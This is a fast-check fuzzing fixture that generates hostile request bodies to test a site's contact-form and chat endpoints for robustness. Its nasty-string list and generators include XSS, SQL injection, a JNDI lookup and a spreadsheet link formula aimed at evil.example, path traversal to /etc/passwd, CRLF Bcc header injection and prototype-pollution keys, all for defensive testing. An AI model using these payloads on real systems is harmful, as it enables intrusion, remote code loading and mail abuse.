// The generated hostile input (fast-check, one fixed seed) that both hostile-input suites send: the unit suite to the
// route handlers (tests/unit/security/hostile-input.test.ts), the harness over HTTP to the production build
// (tests/harness/hostile-input.mjs).
import fc from "fast-check";

export const SEED = 20;

/** Strings that have broken parsers, mail headers, logs, spreadsheets and file paths before. */
export const NASTY_STRINGS = [
  "",
  " ",
  "\u0000",
  "Nul\u0000byte",
  "\r\n",
  "Bob\r\nBcc: x@evil.example",
  "\uD800",
  "\uDFFFlone",
  "\u202Egnp.exe",
  "<script>alert(1)</script>",
  "' OR 1=1 --",
  "${jndi:ldap://evil.example/a}",
  "../../etc/passwd",
  "=HYPERLINK(\"http://evil.example\")",
  "\uFEFF\u200B\u2028\u2029",
];

/** The content types a generated body is sent under: those the endpoints take, those they refuse, and none. */
export const CONTENT_TYPES = ["application/json", "application/x-www-form-urlencoded", "text/plain", "multipart/form-data; boundary=x", "application/xml", ""];

/** Any bytes, up to 3,000. */
export const anyBytes = fc.uint8Array({ maxLength: 3000 });

/** Any UTF-16 code unit: NUL, every control, and halves of surrogate pairs on their own. */
export const codeUnit = fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code));

/** @type {fc.Arbitrary<unknown>} */
export const anyValue = fc.oneof(
  fc.string({ unit: codeUnit, maxLength: 300 }),
  fc.string({ unit: "binary", maxLength: 300 }),
  fc.string({ unit: "grapheme", maxLength: 60 }),
  fc.constantFrom(...NASTY_STRINGS),
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.string(), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 10 }), fc.string({ maxLength: 10 }), { maxKeys: 3 }),
);

/**
 * Mostly field-shaped values (so that many are accepted), spiked with anything at all.
 * @template T
 * @param {fc.Arbitrary<T>} likely
 * @returns {fc.Arbitrary<T | unknown>}
 */
export const mostly = (likely) => fc.oneof({ weight: 4, arbitrary: likely }, { weight: 1, arbitrary: anyValue });

/**
 * A contact form body: its fields, mostly well formed, with up to three stray keys (`__proto__` and `constructor`
 * among them).
 * @param {readonly string[]} services the values of the form's service select
 * @returns {fc.Arbitrary<Record<string, unknown>>}
 */
export function inquiryBody(services) {
  return fc
    .record(
      {
        name: mostly(fc.string({ unit: codeUnit, minLength: 1, maxLength: 60 })),
        email: mostly(fc.stringMatching(/^[a-z0-9]{1,12}([._+-][a-z0-9]{1,6})?@[a-z0-9]{1,12}\.[a-z]{2,6}$/)),
        message: mostly(fc.string({ unit: codeUnit, minLength: 1, maxLength: 800 })),
        phone: mostly(fc.constantFrom("+63 917 000 1234", "(604) 555-0199", "+1 604\r\n555 0199", "")),
        service: mostly(fc.constantFrom(...services, "")),
        _honey: fc.oneof({ weight: 9, arbitrary: fc.constant("") }, { weight: 1, arbitrary: anyValue }),
        _captcha: mostly(fc.constant("false")),
        _subject: mostly(fc.constantFrom("New inquiry", "New\u0000 inquiry\r\nBcc: x@evil.example")),
      },
      { requiredKeys: ["name", "email", "message"] },
    )
    .chain((body) =>
      fc
        .dictionary(fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom("__proto__", "constructor", "prototype", "toString")), anyValue, { maxKeys: 3 })
        .map((extra) => ({ ...extra, ...body })),
    );
}

/** A chat body: a message and a history of any shape, a long binary message, or any JSON value. */
export const chatBody = fc.oneof(
  fc.record(
    { message: anyValue, history: fc.oneof(anyValue, fc.array(fc.record({ role: fc.oneof(fc.constantFrom("user", "bot"), anyValue), text: anyValue }), { maxLength: 12 })) },
    { requiredKeys: [] },
  ),
  fc.record({ message: fc.string({ unit: "binary", minLength: 1, maxLength: 1200 }) }),
  fc.jsonValue({ maxDepth: 3 }),
);

/**
 * A body as the form posts it without JavaScript (application/x-www-form-urlencoded); a value that is not a string is
 * sent as its JSON.
 * @param {Record<string, unknown>} body
 */
export const formEncoded = (body) =>
  new URLSearchParams(Object.entries(body).map(([key, value]) => [key, typeof value === "string" ? value : (JSON.stringify(value) ?? "")])).toString();
